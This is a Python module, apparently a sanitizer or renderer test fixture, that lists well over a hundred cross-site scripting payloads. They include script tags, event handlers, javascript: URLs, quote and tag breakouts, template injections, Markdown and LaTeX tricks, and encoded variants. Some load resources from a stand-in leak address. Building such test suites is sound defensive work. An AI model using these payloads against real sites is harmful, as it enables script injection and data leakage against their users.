"""Hostile texts: markup, handlers, addresses, Markdown, templates and encodings that would run or fetch if believed.

Each would set `window.executed`, or ask LEAK for something, which is an address that nobody has.
"""

from __future__ import annotations

JS = "window.executed=true"
LEAK = "http://203.0.113.7/leak"

_SCRIPTS = (
    "<script>{js}</script>", "<SCRIPT>{js}</SCRIPT>", "<scr<script>ipt>{js}</scr</script>ipt>", "<script\t>{js}</script\n>",
    "<script/x>{js}</script>", "<script type=module>{js}</script>", "<script src={leak}></script>", "<script src=//203.0.113.7/x.js>",
    "<script src=data:text/javascript,{js}></script>", "<svg><script>{js}</script></svg>", "<svg><script href=data:,{js} /></svg>",
    "<math><mtext><script>{js}</script></mtext></math>", "<noscript><p title='</noscript><script>{js}</script>'>", "<!--><script>{js}</script-->",
    "<![CDATA[<script>{js}</script>]]>", "<?xml version='1.0'?><script>{js}</script>", "<template><script>{js}</script></template>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>", "<script nonce=''>{js}</script>", "<script>{js}//",
)  # fmt: skip
_HANDLERS = (
    "<img src=x onerror={js}>", "<img src onerror={js}//>", "<IMG SRC=x OnErRoR={js}>", "<img/src=x/onerror={js}>", "<img src='x' onerror\n=\n'{js}'>",
    "<image src=x onerror={js}>", "<svg onload={js}>", "<svg/onload={js}>", "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributename=x>", "<svg><image href=x onerror={js}>", "<svg><a><rect width=99 height=99 onclick={js} /></a></svg>",
    "<body onload={js}>", "<body onpageshow={js}>", "<frameset onload={js}>", "<iframe onload={js}></iframe>", "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>", "<textarea autofocus onfocus={js}>", "<button autofocus onfocus={js}>x</button>",
    "<video src=x onerror={js}></video>", "<video><source onerror={js}></video>", "<audio src=x onerror={js}></audio>", "<object data=x onerror={js}></object>",
    "<embed src=x onload={js}>", "<marquee onstart={js}>x</marquee>", "<style onload={js}>x{{}}</style>", "<link rel=stylesheet href=x onerror={js}>",
    "<div style='animation:x 1s' onanimationstart={js}>x</div>", "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend={js}>x</p>",
    "<div tabindex=0 autofocus onfocusin={js}>x</div>", "<p onmouseover={js} onpointerenter={js} style=position:fixed;inset:0>x</p>",
    "<dialog open onclose={js}><form method=dialog><button autofocus>x</button></form></dialog>", "<meter onfocus={js} tabindex=1 autofocus></meter>",
    "<x contenteditable autofocus onfocus={js}>x</x>", "<video autoplay onloadstart={js} src=x></video>", "<div onscrollend={js} style=overflow:auto>x</div>",
    "<math onclick={js}><mi>x</mi></math>", "<table background=x onerror={js}><td>x</table>",
)  # fmt: skip
_ADDRESSES = (
    "<a href=javascript:{js}>x</a>", "<a href='JaVaScRiPt:{js}'>x</a>", "<a href='java\tscript:{js}'>x</a>", "<a href='java&#10;script:{js}'>x</a>",
    "<a href='&#106;avascript:{js}'>x</a>", "<a href=' javascript:{js}'>x</a>", "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<a href=vbscript:x>x</a>", "<a href={leak} ping={leak}>x</a>", "<form action=javascript:{js}><input type=submit autofocus>", "<button formaction=javascript:{js}>x</button>",
    "<iframe src=javascript:{js}></iframe>", "<iframe src={leak}></iframe>", "<object data=javascript:{js}></object>", "<embed src={leak}>",
    "<base href={leak}/>", "<meta http-equiv=refresh content='0;url={leak}'>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>", "<img src={leak}>", "<img srcset='{leak} 2x'>", "<link rel=stylesheet href={leak}>",
    "<link rel=preload as=image href={leak}>", "<link rel=dns-prefetch href=//203.0.113.7>", "<link rel=prefetch href={leak}>",
    "<svg><use href='{leak}#x'/></svg>", "<svg><image href={leak} /></svg>", "<video poster={leak}></video>", "<audio src={leak} autoplay></audio>",
    "<style>@import '{leak}';</style>", "<style>body{{background:url({leak})}}</style>", "<p style='background:url({leak})'>x</p>",
    "<table background={leak}>x</table>", "<input type=image src={leak}>", "<portal src={leak}></portal>", "<p style=\"width:expression({js})\">x</p>",
)  # fmt: skip
_BREAKOUTS = (
    "\"><script>{js}</script>", "'><script>{js}</script>", "\" autofocus onfocus={js} x=\"", "' onmouseover='{js}", "` onmouseover={js} `", "</textarea><script>{js}</script>",
    "</title><script>{js}</script>", "</style><script>{js}</script>", "</script><script>{js}</script>", "--><script>{js}</script>", "]]><script>{js}</script>",
    "</p></div></article><img src=x onerror={js}>", "';{js};//", "\";{js};//", "\\';{js};//", "${{{js}}}", "`${{{js}}}`", "{{{{constructor.constructor('{js}')()}}}}",
    "#{{{js}}}", "<%= {js} %>", "{{%raw%}}<script>{js}</script>", "\u2028{js}\u2029", "data: x\nevent: answer\ndata: <script>{js}</script>", "\"}},\"x\":\"<script>{js}</script>",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{js})", "[x](JAVASCRIPT:{js})", "[x](data:text/html,<script>{js}</script>)", "![x](javascript:{js})", "![x]({leak})", "![x][1]\n[1]: {leak}",
    "<javascript:{js}>", "[x]: javascript:{js}\n[x]", "x\n\n![x]({leak})\n\nx", "x\n\n[x](javascript:{js})\n\n<svg onload={js}>\n\n", "x\n\n\n    <img src=x onerror={js}>\n\n***\n\n<{leak}>", "```html\n<script>{js}</script>\n```", "```mermaid\ngraph TD;A[<img src=x onerror={js}>]\n```",
    "$$\\href{{javascript:{js}}}{{x}}$$", "$\\url{{javascript:{js}}}$", "\\(\\htmlStyle{{background:url({leak})}}{{x}}\\)", "| <img src=x onerror={js}> |\n|---|\n| x |",
    "**<img src=x onerror={js}>**", "> <svg onload={js}>", "# <script>{js}</script>", "[![x]({leak})](javascript:{js})", "![x](x\"onerror=\"{js})", "[x](#source=x&start=0 \"onmouseover={js}\")",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;", "%3Cscript%3E{js}%3C/script%3E", "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "＜script＞{js}＜/script＞", "<\u200bscript>{js}</script>", "<scr\u00adipt>{js}</script>", "+ADw-script+AD4-{js}+ADw-/script+AD4-", "‮<script>{js}</script>", "﹤script﹥{js}﹤/script﹥",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    template.format(js=JS, leak=LEAK)
    for template in (*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_BREAKOUTS, *_MARKDOWN, *_ENCODED)
)
